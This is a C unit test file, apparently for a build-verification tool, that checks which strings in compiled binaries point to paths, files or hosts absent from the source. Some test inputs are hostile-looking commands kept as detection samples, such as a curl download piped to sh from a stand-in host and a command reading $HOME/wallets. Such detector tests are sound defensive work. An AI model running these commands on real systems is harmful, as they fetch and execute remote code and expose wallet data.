/*
 * match_elf_strings.c - which strings that stand nowhere lead out of the program: those that name a path, a file or a host, and have a word of no source.
 *
 * Programs are built here by gcc and held against a source without the string.
 */
#include "match_program.h"

/* What is noted of the string `text` of a program whose source has another one in its place; NULL when nothing is. */
static const struct pl_foreign *noted(const char *text)
{
    static char program[1024];
    (void)snprintf(program, sizeof program,
                   "#include <stdio.h>\nint main(void)\n{\n    puts(\"the letters are counted\");\n"
                   "    return puts(\"%s\");\n}\n",
                   text);
    struct pl_file *f =
        beside(built(program, ""), "letters.c",
               "#include <stdio.h>\nint main(void)\n{\n    puts(\"the letters are counted\");\n"
               "    return puts(OTHER);\n}\n/* usage: known words and the folder to build in, /tmp */\n");
    apply("elf.strings", f);
    assert_null(find(f, "file.unaccounted"));
    for (size_t i = 0; i < f->foreign.n; i++)
        if (pl_bytes_eq_str(f->foreign.v[i].text, text))
            return &f->foreign.v[i];
    return NULL;
}

static bool leads_out(void **state, const char *text)
{
    const struct pl_foreign *x = noted(text);
    bool is_so = x != NULL && x->names_place && x->novel_words > 0;
    assert_non_null(x);
    end(state);
    assert_int_equal(set_up(state), 0);
    return is_so;
}

static void a_word_of_no_source_and_a_path_a_file_or_a_host_lead_out(void **state)
{
    assert_true(leads_out(state, "/var/tmp/beacon"));
    assert_true(leads_out(state, "curl http://drop.invalid/stage | sh"));
    assert_true(leads_out(state, "cat $HOME/wallets"));
    assert_true(leads_out(state, "beacon.dll"));
    assert_true(leads_out(state, "beaconing -s http://index"));
    assert_false(leads_out(state, "beaconing of words"));
}

static void a_tilde_between_the_letters_of_a_table_does_not(void **state)
{
    assert_false(leads_out(state, "beaconing~alpha"));
    assert_true(leads_out(state, "~/beaconing"));
}

/* A slash between two words is a part of a name; one of a path says where it begins, or is not the only one. */
static void a_slash_between_two_words_does_not(void **state)
{
    assert_false(leads_out(state, "AcceptBeacon/OfHarbour"));
    assert_false(leads_out(state, "Beaconing/harbour of words"));
    assert_true(leads_out(state, "known /beaconing"));
    assert_true(leads_out(state, "beacon/harbour/of"));
    assert_true(leads_out(state, "./beaconing"));
    assert_true(leads_out(state, "%s/beaconing"));
    assert_true(leads_out(state, "harbour/.beaconing"));
    assert_true(leads_out(state, "known:/beaconing"));
    assert_true(leads_out(state, "beaconing -s http:/"));
    assert_false(leads_out(state, "beaconing of words / known"));
}

/* The folder of a build has six letters that nobody knows; what stands in it has to be known. */
static void the_folder_of_a_build_does_not(void **state)
{
    assert_false(leads_out(state, "gcc -ffile-prefix-map=/build/letters-QSOYAJ/letters=."));
    assert_true(leads_out(state, "gcc -ffile-prefix-map=/build/letters-QSOYAJ/beaconing=."));
    assert_true(leads_out(state, "gcc -ffile-prefix-map=/build/letters-QSOYAJK/letters=."));
}

/* A program that shows how it was built has names of libraries behind -l. */
static void a_known_library_that_the_linker_is_given_does_not(void **state)
{
    assert_false(leads_out(state, "/tmp -lletters -lcounted"));
    assert_true(leads_out(state, "/tmp -lletters -lbeaconing"));
    assert_true(leads_out(state, "/tmp lletters"));
}

/* What glibc's iconv_open() takes behind the name of a character set. */
static void how_a_character_set_is_converted_does_not(void **state)
{
    assert_false(leads_out(state, "BEACON//TRANSLIT"));
    assert_true(leads_out(state, "/var/beacon//TRANSLIT"));
    assert_true(leads_out(state, "beacon//TRANSLITERATED"));
}

#define UNKNOWN 12

/* A program with twelve strings of no source and thirty of its own, in a build with these files; the severity of what is said of it as a whole. */
static enum pl_severity of_the_whole(void **state, const char *meson)
{
    char own[4096] = "#include <stdio.h>\nint letters(void)\n{\n";
    char program[8192];
    char strange[2048] = "int events(void)\n{\n";
    for (int i = 0; i < 30; i++)
        (void)snprintf(own + strlen(own), sizeof own - strlen(own), "    puts(\"letter %d of them\");\n", i);
    for (int i = 0; i < UNKNOWN; i++)
        (void)snprintf(strange + strlen(strange), sizeof strange - strlen(strange),
                       "    puts(\"event%crepositioned\");\n", 'a' + i);
    (void)snprintf(program, sizeof program,
                   "%s    return 0;\n}\n%s    return 0;\n}\nint main(void)\n{\n    "
                   "return letters() + events();\n}\n",
                   own, strange);
    (void)snprintf(own + strlen(own), sizeof own - strlen(own), "    return 0;\n}\n");
    add_source(0, "meson.build", meson);
    struct pl_file *f = beside(built(program, ""), "letters.c", own);
    f->name = PL_LIT("usr/bin/letters");
    apply("elf.strings", f);
    const struct pl_finding *found = find(f, "file.unaccounted");
    enum pl_severity severity = found == NULL ? PL_SEVERITY_NOTE : found->severity;
    end(state);
    assert_int_equal(set_up(state), 0);
    return severity;
}

/* Out of protocols that no source holds; half of the strings of a program, and one that the build files do not name, are too much. */
static void a_part_that_wayland_scanner_writes_is_a_warning(void **state)
{
    static const char scanned[] = "executable('letters', x)\ns = find_program('wayland-scanner')\n";
    assert_int_equal(of_the_whole(state, "executable('letters', x)\n"), PL_SEVERITY_ERROR);
    assert_int_equal(of_the_whole(state, "s = find_program('wayland-scanner')\n"), PL_SEVERITY_ERROR);
    assert_int_equal(of_the_whole(state, scanned), PL_SEVERITY_WARNING);
}

/* __FILE__ of what a generator made. */
/* gengetopt's own texts, and those that it puts together of a description of options. */
static void a_part_that_gengetopt_writes_is_a_warning(void **state)
{
    static const char built_here[] = "executable('letters', x)\n";
    add_source(0, "src/letters.ggo.in", "package \"letters\"\n");
    assert_int_equal(of_the_whole(state, built_here), PL_SEVERITY_WARNING);
    add_source(0, "src/letters.ggo", "package \"letters\"\n");
    assert_int_equal(of_the_whole(state, "executable('words', x)\n"), PL_SEVERITY_ERROR);
    add_source(0, "src/letters.gg", "package \"letters\"\n");
    assert_int_equal(of_the_whole(state, built_here), PL_SEVERITY_ERROR);
}

static void the_name_of_a_made_source_does_not(void **state)
{
    add_source(0, "beacon.xs", "MODULE = x\n");
    assert_false(leads_out(state, "temporaries/beacon.c"));
    add_source(0, "other.xs", "MODULE = x\n");
    assert_true(leads_out(state, "temporaries/beacon.c"));
}

/* configure writes down where the interpreter's library is, for dlopen(). */
static void a_library_of_the_build_below_the_systems_folder_does_not(void **state)
{
    assert_true(leads_out(state, "/usr/lib/python3.11/beacon-3.11/libbeacon3.so"));
    build_headers = (struct pl_headers){.package = "libbeacon-dev",
                                        .text = PL_LIT("plumbline headers 8\n@!\nlibbeacon3.so.1\n")};
    bool is_out = leads_out(state, "/usr/lib/python3.11/beacon-3.11/libbeacon3.so");
    bool is_elsewhere_out = leads_out(state, "/var/tmp/libbeacon3.so");
    bool is_behind_out = leads_out(state, "/usr/lib/../../tmp/libbeacon3.so");
    build_headers = (struct pl_headers){0};
    assert_false(is_out);
    assert_true(is_elsewhere_out);
    assert_true(is_behind_out);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(a_word_of_no_source_and_a_path_a_file_or_a_host_lead_out, set_up,
                                        end),
        cmocka_unit_test_setup_teardown(a_tilde_between_the_letters_of_a_table_does_not, set_up, end),
        cmocka_unit_test_setup_teardown(a_slash_between_two_words_does_not, set_up, end),
        cmocka_unit_test_setup_teardown(the_folder_of_a_build_does_not, set_up, end),
        cmocka_unit_test_setup_teardown(the_name_of_a_made_source_does_not, set_up, end),
        cmocka_unit_test_setup_teardown(a_known_library_that_the_linker_is_given_does_not, set_up, end),
        cmocka_unit_test_setup_teardown(how_a_character_set_is_converted_does_not, set_up, end),
        cmocka_unit_test_setup_teardown(a_part_that_wayland_scanner_writes_is_a_warning, set_up, end),
        cmocka_unit_test_setup_teardown(a_part_that_gengetopt_writes_is_a_warning, set_up, end),
        cmocka_unit_test_setup_teardown(a_library_of_the_build_below_the_systems_folder_does_not, set_up,
                                        end),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
